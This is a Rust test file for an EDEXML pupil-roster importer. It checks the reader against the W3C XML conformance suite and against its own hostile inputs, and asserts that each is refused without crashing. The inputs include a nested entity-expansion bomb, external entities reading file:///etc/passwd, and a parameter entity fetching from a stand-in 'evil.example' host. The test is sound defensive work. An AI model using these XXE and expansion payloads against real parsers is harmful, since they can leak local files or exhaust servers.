//! W3C's XML test suite against the reader of EDEXML: no DTD, no entity, nothing ill-formed, no crash.

use std::io::{Cursor, Read as _};
use std::time::{Duration, Instant};

use sluis::clock::Timestamp;
use sluis::identity::Kind;
use sluis::roster::{Brought, Format, Options, Source, bring};

use super::corpora::{corpus, some};
use super::ground::Ground;
use super::process::Place;
use super::tally::{MARKUP, Tally};

const PUPIL: &str = "<leerling key=\"LL-1\"><achternaam>Canary</achternaam></leerling>";

/// How many pupils it brought, or that it was refused.
fn read(bytes: Vec<u8>) -> Option<usize> {
    let options =
        Options { format: Some(Format::Edexml), delta: false, staff: false, key: Kind::PUPIL_NUMBER };
    let now = Timestamp::from_millis(1_780_000_000_000);
    match bring(Source::File(Box::new(Cursor::new(bytes))), &options, now, &mut |_| {}) {
        Ok(import) => Some(match import.brought {
            Brought::Whole(roster) => roster.len(),
            _ => usize::MAX,
        }),
        Err(_) => None,
    }
}

fn around(inner: &[u8]) -> Vec<u8> {
    [b"<EDEX><leerlingen>", PUPIL.as_bytes(), b"</leerlingen><rest>", inner, b"</rest></EDEX>"].concat()
}

/// Every `.xml` of the suite, and whether the suite says that it is not well-formed.
fn suite() -> Vec<(String, Vec<u8>, bool)> {
    let Some(path) = corpus("xmlconf/xmlts20130923.zip") else { return Vec::new() };
    let archive = rawzip::ZipArchive::from_slice(std::fs::read(path).unwrap()).unwrap();
    let mut all = Vec::new();
    for entry in archive.entries() {
        let entry = entry.unwrap();
        let name = String::from_utf8_lossy(entry.file_path().as_ref()).into_owned();
        // Lists of tests are none.
        if !name.ends_with(".xml") || name.contains("/ibm_") {
            continue;
        }
        let method = entry.compression_method();
        let found = archive.get_entry(entry.wayfinder()).unwrap();
        let mut bytes = Vec::new();
        if method == rawzip::CompressionMethod::DEFLATE {
            flate2::read::DeflateDecoder::new(found.data()).read_to_end(&mut bytes).unwrap();
        } else {
            bytes.extend_from_slice(found.data());
        }
        let not_wf = name.contains("not-wf") || name.contains("fail");
        all.push((name, bytes, not_wf));
    }
    all.sort();
    all
}

fn own() -> Vec<(&'static str, Vec<u8>)> {
    let good = format!("<EDEX><leerlingen>{PUPIL}</leerlingen></EDEX>");
    let entities = format!(
        "<!DOCTYPE EDEX [<!ENTITY a \"aaaaaaaaaa\">{}]>",
        (0..12).map(|n| format!("<!ENTITY l{n} \"{}\">", "&a;".repeat(10))).collect::<String>()
    );
    vec![
        ("laughs", format!("{entities}{good}").into_bytes()),
        ("external", format!("<!DOCTYPE EDEX SYSTEM \"file:///etc/passwd\">{good}").into_bytes()),
        ("lower", format!("<!doctype EDEX>{good}").into_bytes()),
        ("behind a comment", format!("<!-- x --><!DOCTYPE EDEX>{good}").into_bytes()),
        (
            "parameter entity",
            format!("<!DOCTYPE EDEX [<!ENTITY % x SYSTEM \"http://evil.example/\">%x;]>{good}").into_bytes(),
        ),
        ("attlist", format!("<!DOCTYPE EDEX [<!ATTLIST leerling key CDATA \"LL-9\">]>{good}").into_bytes()),
        ("entity", good.replace("Canary", "&xxe;").into_bytes()),
        ("entity in an attribute", good.replace("LL-1", "&xxe;").into_bytes()),
        ("character 0", good.replace("Canary", "&#0;").into_bytes()),
        ("character too large", good.replace("Canary", "&#x110000;").into_bytes()),
        ("control character", good.replace("Canary", "Ca\u{1}nary").into_bytes()),
        ("two roots", format!("{good}{good}").into_bytes()),
        ("cut off", good.as_bytes()[..good.len() - 9].to_vec()),
        ("attribute twice", good.replace("key=\"LL-1\"", "key=\"LL-1\" key=\"LL-2\"").into_bytes()),
        ("deep", format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)).into_bytes()),
        ("long attribute", good.replace("LL-1", &"x".repeat(3 << 20)).into_bytes()),
        (
            "invalid UTF-8",
            good.replace("Canary", "\u{fffd}")
                .into_bytes()
                .iter()
                .map(|b| if *b == 0xef { 0xff } else { *b })
                .collect(),
        ),
        ("UTF-16", good.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("UTF-7", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{good}").into_bytes()),
        ("nothing", Vec::new()),
    ]
}

#[test]
fn documents_of_the_w3c_as_rosters() {
    let mut tally = Tally::default();
    assert_eq!(read(around(b"")), Some(1), "the document round the others is a good one");
    for (name, bytes) in own() {
        let begun = Instant::now();
        let said = read(bytes);
        tally.judge(said.is_none() && begun.elapsed() < Duration::from_secs(10), || {
            format!("own {name}: {said:?}")
        });
    }
    for (name, bytes, not_wf) in some(suite(), 700) {
        let said = read(bytes.clone());
        tally.judge(said.is_none(), || format!("{name}: {said:?} pupils"));
        let declared = memchr::memmem::find(&bytes, b"<!DOCTYPE").is_some();
        if let (true, Some(end)) = (declared, prolog(&bytes)) {
            let said = read([&bytes[..end], &around(b"")].concat());
            tally.judge(said.is_none(), || format!("{name}: its DTD is read: {said:?} pupils"));
        } else if !declared && not_wf && !bytes.starts_with(b"<?xml") && !bytes.starts_with(b"\xef\xbb\xbf") {
            match (read(around(&bytes)), unchecked(&name)) {
                (None, _) => tally.pass(),
                (Some(_), Some(reason)) => tally.except(reason, name),
                (Some(_), None) => {
                    tally.fail(format!("{name}: imported with it: {}", String::from_utf8_lossy(&bytes)))
                }
            }
        }
    }
    tally.done(&MARKUP);
}

/// Rules of XML that the reader does not check, and why that is right: the file's name, without its ending.
fn unchecked(name: &str) -> Option<&'static str> {
    const PASSED_OVER: &[&str] = &[
        "oasis/p04fail1",
        "oasis/p04fail2",
        "oasis/p04fail3",
        "oasis/p05fail1",
        "oasis/p05fail2",
        "oasis/p05fail3",
        "oasis/p05fail4",
        "oasis/p05fail5",
        "oasis/p10fail1",
        "oasis/p16fail2",
        "oasis/p16fail3",
        "sa/150",
        "sa/151",
        "sa/154",
        "sa/155",
        "sa/156",
        "sa/157",
        "oasis/p14fail3",
        "oasis/p16fail1",
        "oasis/p23fail1",
        "oasis/p40fail1",
        "oasis/p40fail2",
        "oasis/p44fail4",
        "sa/002",
        "sa/003",
        "sa/014",
        "sa/023",
        "sa/024",
        "sa/025",
        "sa/026",
        "sa/029",
        "sa/171",
        "sa/172",
        "sa/173",
        "sa/174",
    ];
    const BEGIN_AND_END: &[&str] = &[
        "oasis/p01fail1",
        "oasis/p01fail2",
        "oasis/p01fail3",
        "oasis/p18fail3",
        "oasis/p22fail1",
        "oasis/p39fail3",
        "sa/036",
        "sa/037",
        "sa/040",
        "sa/041",
        "sa/043",
        "sa/044",
        "sa/048",
        "sa/050",
        "sa/051",
        "sa/052",
        "sa/105",
        "sa/106",
        "sa/147",
        "sa/148",
    ];
    let of = |list: &[&str]| list.iter().any(|stem| name.ends_with(&format!("{stem}.xml")));
    if of(PASSED_OVER) {
        return Some(
            "how a name or an instruction is spelt, white space between attributes, `<` in an attribute, `]]>` in text, U+FFFF in a comment: in what the \
             reader passes over; nobody is described there",
        );
    }
    of(BEGIN_AND_END)
        .then_some("it is about how a document begins and ends, and the test puts it inside another")
}

/// Where the root element begins, roughly: behind the last `]>` or the DOCTYPE's `>`.
fn prolog(bytes: &[u8]) -> Option<usize> {
    let at = memchr::memmem::find(bytes, b"<!DOCTYPE")?;
    let inside = memchr::memmem::rfind(&bytes[at..], b"]>").map(|end| at + end + 2);
    inside.or_else(|| memchr::memchr(b'>', &bytes[at..]).map(|end| at + end + 1))
}

#[test]
fn a_hostile_roster_leaves_a_running_house_as_it_was() {
    let place = Place::school();
    place.put("bom.xml", &format!("<!DOCTYPE EDEX [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><EDEX><leerlingen>{PUPIL}</leerlingen></EDEX>"));
    let said = place.fails(&["roster", "import", "bom.xml"]);
    assert!(!said.contains("root:") && !said.contains("panicked"), "{said}");
    let ground = Ground::usual();
    ground.place.put("bom.xml", "<!DOCTYPE EDEX><EDEX/>");
    ground.place.fails(&["roster", "import", "bom.xml"]);
    ground.settle(&[]);
}
